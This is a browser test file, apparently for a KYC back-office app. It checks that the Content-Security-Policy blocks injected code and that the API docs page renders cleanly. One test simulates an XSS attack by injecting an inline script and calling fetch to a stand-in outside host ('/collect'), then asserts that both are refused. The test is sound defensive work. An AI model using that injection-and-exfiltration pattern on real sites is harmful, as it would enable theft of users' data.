import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { guardedPage, launchBrowser, saveEvidence } from '../support/browser.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

describe('Content-Security-Policy in a real browser', () => {
  let t: TestApp;
  let browser: Browser;

  beforeAll(async () => {
    t = await startTestApp({ env: { SANDBOX_TICK_MS: '0', WEBHOOK_TICK_MS: '0' } });
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await t?.close();
  });

  it('the console refuses an injected inline script and a call to another host, and the guard reports both', async () => {
    const { page, outside, consoleLog, cspViolations } = await guardedPage(browser);
    try {
      await page.goto(`${t.url}/`);
      await page.getByRole('button', { name: 'Sign in' }).waitFor();
      expect(cspViolations).toEqual([]);
      // What an XSS would try: run inline code, then send data away. (evaluate itself runs outside the CSP.)
      const result = await page.evaluate(`(async () => {
        const script = document.createElement('script');
        script.textContent = 'window.cspProbe = "ran"';
        document.body.append(script);
        const sent = await fetch('http://203.0.113.7/collect').then(() => 'sent', () => 'refused');
        return { ran: window.cspProbe ?? 'blocked', sent };
      })()`);
      expect(result).toEqual({ ran: 'blocked', sent: 'refused' });
      const deadline = Date.now() + 5000;
      while (cspViolations.length < 2 && Date.now() < deadline) await page.waitForTimeout(50);
      expect(cspViolations).toEqual(
        expect.arrayContaining([
          expect.stringMatching(/inline script[\s\S]*script-src 'self'/),
          expect.stringMatching(/203\.0\.113\.7[\s\S]*connect-src 'self'/),
        ]),
      );
      // Refused by the browser before any request: the network guard never saw it.
      expect(outside).toEqual([]);
    } catch (e) {
      await saveEvidence(page, 'security-csp-probe', consoleLog);
      throw e;
    } finally {
      await page.context().close();
    }
  });

  it('the API docs (Swagger UI) render under their policy without a violation', async () => {
    const { page, outside, consoleLog, cspViolations } = await guardedPage(browser);
    try {
      await page.goto(`${t.url}/docs`);
      await page.locator('.swagger-ui .info .title').getByText('KYC back-office').waitFor();
      await page.locator('.opblock-summary-path').first().waitFor();
      await page.locator('.opblock-summary').first().click();
      await page.locator('.opblock-body').first().waitFor();
      await page.waitForTimeout(300);
      expect(cspViolations).toEqual([]);
      expect(outside).toEqual([]);
    } catch (e) {
      await saveEvidence(page, 'security-csp-docs', consoleLog);
      throw e;
    } finally {
      await page.context().close();
    }
  });
});
